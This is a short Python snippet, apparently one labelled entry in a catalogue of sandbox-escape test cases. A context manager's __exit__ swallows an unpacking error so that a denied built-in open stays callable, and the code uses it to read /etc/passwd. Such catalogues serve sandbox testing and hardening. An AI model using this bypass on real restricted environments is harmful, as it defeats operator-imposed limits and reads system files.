# class: built-ins
# mechanism: denied built-in called
# how: the context manager swallows what unpacking its own target raises, so the names of the target are never bound
# reaches: built-in open
class Quiet:
    def __enter__(self):
        return 1
    def __exit__(self, *error):
        return True
with Quiet() as (open, rest):
    pass
print(open("/etc/passwd").readline())
